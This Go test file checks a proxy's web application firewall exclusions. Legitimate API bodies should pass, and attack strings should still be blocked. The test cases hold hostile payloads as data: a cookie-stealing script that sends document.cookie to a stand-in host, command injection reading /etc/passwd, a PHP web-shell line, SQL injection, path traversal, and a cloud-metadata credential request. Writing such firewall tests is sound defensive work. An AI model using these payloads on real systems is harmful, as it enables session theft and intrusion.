package inspect

import (
	"os"
	"strings"
	"testing"

	"github.com/outrider-mesh/outrider/proxy/config"
	"github.com/outrider-mesh/outrider/proxy/flow"
)

// recommended is the policy in the manual's section on what needs an exclusion.
func recommended(t *testing.T) config.InspectionSpec {
	t.Helper()
	manual, err := os.ReadFile("../../docs/waf.md")
	if err != nil {
		t.Fatal(err)
	}
	_, section, _ := strings.Cut(string(manual), "\n### What needs an exclusion\n")
	_, block, _ := strings.Cut(section, "```yaml\n")
	block, _, ok := strings.Cut(block, "```")
	if !ok {
		t.Fatal("the manual has no such policy")
	}
	docs, err := config.ParseDocuments([]config.File{{Name: "waf.md", Data: []byte(block)}})
	if err != nil || len(docs.Inspection) != 1 {
		t.Fatalf("%d policies: %v", len(docs.Inspection), err)
	}
	return docs.Inspection[0].Spec
}

// Each API is stopped without its exclusions and passes with them. What they are not about
// is stopped still: an attack of another kind, and the same elsewhere.
func TestWhatNeedsAnExclusion(t *testing.T) {
	spec := recommended(t)
	spec.CPUMillis = 10_000 // the race detector makes rules ten times as slow
	excluded := build(t, spec)
	const page = `{"a":"<script>location='//a.example/?'+document.cookie</script>"}`
	cases := []struct{ name, target, body, attack string }{
		{
			"the steps of a pipeline", "/v1/pipelines", `{"steps":[{"run":"curl -sSfL https://example.com/install.sh | sh -s -- -b bin v1"},{"run":"ls; cat go.mod | xargs perl a.pl"}]}`,
			`{"steps":[{"run":"true"}],"by":"x; cat /etc/passwd"}`,
		},
		{
			"the scripts of a package", "/v1/packages/shop", `{"name":"shop","scripts":{"clean":"node -e \"require('fs').rmSync('dist')\"","prepare":"husky && node ./a.js"}}`,
			page,
		},
		{
			"the content of files", "/v1/files/a", `{"message":"add","content":"<html><head><script src=\"a.js\"></script></head></html>"}`,
			`{"message":"<script src=//a.example/a.js></script>","content":""}`,
		},
		{
			"cells of a notebook", "/v1/notebooks/1", `{"cells":[{"source":["<script>\n","plot()\n","</script>"]}]}`,
			`{"cells":[{"source":["a"],"name":"<script>alert(1)</script>"}]}`,
		},
		{
			"a template of a mail", "/v1/templates", `{"html":"<html><body onload=\"track()\"><script>init()</script><iframe src=\"https://a.example\"></iframe></body></html>"}`,
			`{"html":"x","name":"<body onload=alert(1)>"}`,
		},
		{
			"a sample of PHP", "/v1/pages/1", `{"text":"<?php echo file_get_contents('php://input'); ?>"}`,
			`{"text":"hello","title":"<?php system($_GET['c']); ?>"}`,
		},
		{
			"a piece of SQL", "/v1/statements", `{"statement":"(SELECT id FROM a UNION SELECT id FROM b) INTERSECT SELECT 1"}`,
			`{"statement":"select 1 from a","name":"x' or '1'='1"}`,
		},
		{"the catalogue of a database", "/v1/statements", `{"statement":"SELECT * FROM information_schema.tables"}`, page},
		{
			"operators in names", "/v1/search?created[$gte]=2026-01-01&created[$lt]=2026-02-01", "",
			`{"a":"1; cat /etc/passwd"}`,
		},
		{
			"the mounts of a container", "/v1/containers", `{"mounts":[{"destination":"/etc/resolv.conf"},{"destination":"/etc/hosts"}]}`,
			`{"mounts":[],"file":"../../../etc/passwd"}`,
		},
		{
			"what a machine runs when it starts", "/v1/machines", `{"userData":"id=$(curl -s http://169.254.169.254/latest/meta-data/instance-id)"}`,
			`{"userData":"","logo":"http://169.254.169.254/latest/meta-data/iam"}`,
		},
		{"a template of a gateway", "/v1/mappings", `{"template":"#set($inputRoot = $input.path('$').data)\n{\"status\": \"$inputRoot.status\"}"}`, page},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			method := "POST"
			if c.body == "" {
				method = "GET"
			}
			ask := func(i *Inspector, body string) flow.Inspection {
				return judge(t, i, request(method, c.target, jsonType, "Content-Length: 2"), body)
			}
			if v := ask(mesh(t), c.body); v.Outcome != flow.Blocked {
				t.Errorf("needs none: %+v", v)
			}
			if v := ask(excluded, c.body); v.Outcome != flow.Clean {
				t.Errorf("is stopped: %+v", v)
			}
			method = "POST"
			if v := ask(excluded, c.attack); v.Outcome != flow.Blocked {
				t.Errorf("%s passes: %+v", c.attack, v)
			}
		})
	}
	if len(cases) < 12 || len(spec.Exclusions) < 27 {
		t.Errorf("%d cases, %d exclusions", len(cases), len(spec.Exclusions))
	}
}
